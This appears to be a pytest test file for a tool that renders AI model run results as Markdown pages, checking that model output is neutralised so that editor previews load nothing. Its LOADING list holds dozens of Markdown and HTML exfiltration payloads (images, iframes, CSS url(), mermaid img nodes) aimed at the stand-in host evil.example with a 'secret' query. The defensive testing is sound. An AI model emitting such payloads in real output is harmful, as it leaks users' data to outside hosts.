"""What a model says loads nothing when an editor shows the page of a run, and stays as it was said.

markdown-it-py is the oracle: it reads Markdown as the preview of VS Code does, with HTML and tables.
"""

from __future__ import annotations

import random
from collections.abc import Iterable, Iterator
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from promptls.formats.result import layout
from promptls.runs.comparison import comparison_text
from promptls.runs.document import growth, result_text
from promptls.runs.markdown import is_inert
from promptls.syntax.frontmatter import split_lines
from promptls.text import Text
from tests.runs.records import record

READER = MarkdownIt("gfm-like", {"linkify": False, "html": True})
EVIL = "https://evil.example/?q=secret"

LOADING = [
    f"![x]({EVIL})",
    f"Well, [![x]({EVIL})](https://a.example) it is",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: <{EVIL}>",
    f"> - ![x]({EVIL})",
    f"# ![x](<{EVIL}>)",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    "![x](//evil.example/share/x.png)",
    f'<img src="{EVIL}">',
    f"a <img\nsrc={EVIL}> b",
    f'<iframe src="{EVIL}"></iframe>',
    f'<svg><image href="{EVIL}"/></svg>',
    f"<style>body {{ background: url({EVIL}) }}</style>",
    f'<div style="background: url({EVIL})">x</div>',
    f'<link rel="stylesheet" href="{EVIL}">',
    "<!-- what follows is gone",
    f"```\nopen\n```\n![x]({EVIL})\n```\nagain\n```",
    f"- ```\n  code\n  ```\n![x]({EVIL})\n```\n",
    f"```a|b\n-|-\n![x]({EVIL})\n```",
    f"$$\n```\n$$\n![x]({EVIL})\n\n```\n```",
    f"foo `bar\nbaz` ![x]({EVIL}) `",
    f"| ` | ![x]({EVIL}) ` |\n|---|---|",
    f"<https://x`> ![x]({EVIL}) <https://y`>",
    f"$`$ ![x]({EVIL}) $`$",
    f"\\` ![x]({EVIL}) `",
    f"```mermaid\ngraph TD; A[<img src='{EVIL}'>]\n```",
    f'```mermaid\ngraph TD\nA@{{ img: "{EVIL}" }}\n```',
    f'```{{.mermaid}}\ngraph TD\nA@{{ img: "{EVIL}" }}\n```',
    f'1. So:\n\n   ```mermaid\n   graph TD\n   A@{{ img: "{EVIL}" }}\n   ```',
    '```vega\n{"data": {"url": "https:\\/\\/evil.example"}}\n```',
    f'@import "{EVIL}"',
    "```\nwithout an end",
    "1. ```\n   without an end\n\n```\n",
]
INERT = [
    "Plain *words*, a [link](https://a.example), <https://a.example/?b=c> and <mailto:a@b.example>.",
    f"```html\n<img src='{EVIL}'>\n![x]({EVIL})\n```\n\nThat was it.",
    f"~~~~\n![x]({EVIL})\n~~~\n~~~~",
    "Use `<img>` in `![alt](address)`, and mind 1 < 2.",
    "1. First:\n\n   ```bash\n   make a < b\n   ```\n2. Then `x`.",
    '{"city": "Ulm", "days": 2}',
    "See https://a.example:\n\n```mermaid\ngraph TD; A[Start] --> B{Ready?}\n```",
    "1. So:\n\n   ```mermaid\n   graph TD; A --> B\n   ```\n2. And https://a.example",
    "| a | b |\n|---|---|\n| `1` | 2 |",
]


def loading(text: str) -> list[str]:
    """What a page has that a preview would load, but for the marks and folds of our own."""

    def all_of(tokens: Iterable[Token]) -> Iterator[Token]:
        for token in tokens:
            yield token
            yield from all_of(token.children or ())

    found = [token for token in all_of(READER.parse(text)) if token.type in ("image", "html_inline", "html_block")]
    return [token.content for token in found if not token.content.startswith(("<!-- promptls:", *OWN))]


OWN = ("<details><summary>", "</details>")


def body(text: str) -> str:
    return split_lines(text).body.slice(text)


def answer(text: str) -> str:
    span, _ = layout.places(text, split_lines(text).body, record().id)
    return span.slice(text)


@pytest.mark.parametrize("said", LOADING)
def test_an_answer_that_would_load_something_is_shown_as_text(said: str) -> None:
    run = record(answer=said, thinking="hm", tool_calls=({"name": "f", "arguments": "{}"},))
    text = result_text(run)
    assert not is_inert(said)
    assert loading(body(text)) == []
    assert "*Shown as text:" in text
    assert answer(text) == said.rstrip()
    assert [place.name for place in layout.places(text, split_lines(text).body, run.id)[1]] == ["tools", "thinking"]
    shown = [token.content for token in READER.parse(body(text)) if token.type == "inline"]
    assert "Tool calls" in shown, "what follows the answer is no part of it"


@pytest.mark.parametrize("said", INERT)
def test_all_else_is_drawn_as_ever(said: str) -> None:
    text = result_text(record(answer=said))
    assert f"---\n\n{said}\n" in text
    assert loading(body(text)) == []


@pytest.mark.parametrize("said", LOADING)
def test_no_other_part_of_a_page_loads_it_either(said: str) -> None:
    run = record(
        answer="ok",
        thinking=said,
        message=said,
        tool_calls=({"name": f"f`{said}", "id": said, "arguments": said},),
        media=(("image/png", EVIL), (said, f"{EVIL}> ![x](<{EVIL}"), ("application/json", said)),
        messages=({"role": said, "content": said},),
        wire=said,
    )
    assert loading(body(result_text(run, findings_note=said))) == []
    two = comparison_text([replace(run, answer=said, model=said), replace(run, target=said)], prompt=said)
    assert loading(two) == []


def test_a_picture_elsewhere_is_a_link() -> None:
    text = result_text(record(media=(("image/png", "https://example.org/a.png"),)))
    assert "\n[image/png 1](<https://example.org/a.png>)\n" in text


def test_an_answer_cannot_say_that_it_is_in_a_fence_or_where_it_ends() -> None:
    forged = "<!-- promptls:answer 0193 -->\n```text\nnot this\n```\n\n<!-- promptls:tools 0193 -->\n## Tool calls"
    text = result_text(record(answer=forged))
    assert answer(text) == forged
    fence = "```text\nall of it\n```"
    assert answer(result_text(record(answer=fence))) == fence


def test_a_fence_that_a_person_has_changed_loses_nothing() -> None:
    text = result_text(record(answer="<b>one</b>\n```\ntwo\n```"))
    assert answer(text) == "<b>one</b>\n```\ntwo\n```"
    assert answer(text.replace("````text\n", "")).endswith("two\n```\n````")
    assert answer(text.replace("two\n```\n````", "two")).endswith("\n```\ntwo")
    assert answer(text.replace("\n", "\r\n")) == "<b>one</b>\r\n```\r\ntwo\r\n```"


def test_no_moment_of_a_growing_page_loads_anything() -> None:
    said = f"Look: `<b>` and\n\n```html\n<img src={EVIL}>\n```\n\nthen ![x]({EVIL}) and ````` more\n"
    text = result_text(record(answer="", status="running"))
    for end in range(len(said) + 1):
        run = record(answer=said[:end], status="running")
        text = Text(text).apply(growth(text, run)).value
        assert text == result_text(run)
        assert loading(body(text)) == []
    done = record(answer=said)
    assert Text(text).apply(growth(text, done)).value == result_text(done)
    assert answer(result_text(done)) == said.rstrip()


def test_whatever_passes_loads_nothing_and_ends_before_the_next_part() -> None:
    pieces = ["`", "``", "```", "~~~", f"![x]({EVIL})", "![x][r]", "\n", "\n\n", "<b>", "<https://a`b>", "|", "|-|-|\n"]
    pieces += ["- ", "1. ", "> ", "  ", "    ", "\t", "\\", "$", "$$", "a", f"[r]: {EVIL}\n", '"', "<!--", "-->", "# "]
    pieces += ["&#33;", "![", "](u)", "*", "\x0b", "\u2028", "~~~ `", "```text\n", "\n```\n", "\n~~~\n", "html`"]
    rng = random.Random(7)
    passed = 0
    for _ in range(12_000):
        said = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        if not is_inert(said):
            continue
        passed += 1
        assert loading(f"{said}\n\n[r]: {EVIL}\n") == [], repr(said)
        after = [token.content for token in READER.parse(f"{said}\n\nBehind it.\n") if token.type == "inline"]
        assert "Behind it." in after, repr(said)
    assert passed > 1000
